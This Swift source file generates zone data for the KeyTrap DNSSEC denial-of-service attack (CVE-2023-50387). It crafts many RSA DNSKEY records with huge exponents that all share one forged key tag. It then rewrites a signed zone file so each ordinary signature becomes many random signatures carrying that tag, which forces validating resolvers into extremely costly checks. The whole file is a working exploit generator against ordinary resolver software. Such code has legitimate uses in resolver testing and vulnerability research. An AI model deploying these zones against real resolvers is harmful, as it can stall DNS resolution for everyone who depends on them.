import Foundation

/// What a zone of the KeyTrap attack (CVE-2023-50387) is made of: keys that share one tag, and signatures by none of them.
///
/// A signature names its key by the tag alone, so a validator that means to be thorough tries each signature with each
/// key. The keys are RSA keys whose exponent is as long as their modulus. They cost so much to try that one record set
/// takes a validator without limits twenty seconds. Nobody has the private halves, nor needs them: no signature has to
/// fit.
struct KeyTrap: Sendable {
    /// Above 3072 bits OpenSSL would refuse such an exponent.
    private static let modulusBytes = 384
    private static let algorithm = "8"
    /// Zone key, protocol 3, RSA with SHA-256 (RFC 4034 §2.1).
    private static let head: [UInt8] = [1, 0, 3, 8]
    private static let tag: UInt16 = 0x4B54

    let keys: Int
    let signatures: Int

    /// The keys as lines of a zone file.
    func keyLines(apex: String) -> [String] {
        (0..<self.keys).map { _ in "\(apex) DNSKEY 256 3 \(Self.algorithm) \(Data(Self.key()).base64EncodedString())" }
    }

    /// A signed zone file with forged signatures in place of those of the zone's own records.
    ///
    /// What a resolver needs to come that far stays as it is: the keys, the name servers and the denials.
    func springing(in zoneFile: String) -> String {
        zoneFile.split(separator: "\n").map { line in
            var words = line.split(whereSeparator: \.isWhitespace).map(String.init)
            guard words.count == 12, words[2] == "RRSIG", !["SOA", "NS", "DNSKEY", "NSEC"].contains(words[3]) else {
                return String(line)
            }
            words[4] = Self.algorithm
            words[9] = "\(Self.tag)"
            return (0..<self.signatures).map { _ in
                // A number below each modulus, or it would be refused unseen.
                words[11] = Data([0] + Self.random(Self.modulusBytes - 1)).base64EncodedString()
                return words.joined(separator: " ")
            }.joined(separator: "\n")
        }.joined(separator: "\n") + "\n"
    }

    /// The public key field of a DNSKEY record with the common tag (RFC 3110 §2).
    private static func key() -> [UInt8] {
        let exponent = [0x7F] + Self.random(Self.modulusBytes - 2) + [1]
        var modulus = [0xFF] + Self.random(Self.modulusBytes - 2) + [1]
        let length = [0, UInt8(Self.modulusBytes >> 8), UInt8(Self.modulusBytes & 0xFF)]
        // The tag is a sum of words of 16 bits, and this is where one of them stands behind 391 other bytes. What its end
        // carries over may leave the sum one off, so the word below is tried as well.
        let word = 101
        (modulus[word], modulus[word + 1]) = (0, 0)
        let missing = Self.tag &- Self.tag(of: Self.head + length + exponent + modulus)
        for value in [missing, missing &- 1] {
            (modulus[word], modulus[word + 1]) = (UInt8(value >> 8), UInt8(value & 0xFF))
            if Self.tag(of: Self.head + length + exponent + modulus) == Self.tag { break }
        }
        return length + exponent + modulus
    }

    /// The key tag of a DNSKEY record's data (RFC 4034 appendix B).
    private static func tag(of data: [UInt8]) -> UInt16 {
        let sum = data.indices.reduce(UInt32(0)) { $0 + UInt32(data[$1]) << ($1.isMultiple(of: 2) ? 8 : 0) }
        return UInt16(truncatingIfNeeded: sum + sum >> 16)
    }

    private static func random(_ count: Int) -> [UInt8] { (0..<count).map { _ in .random(in: .min ... .max) } }
}
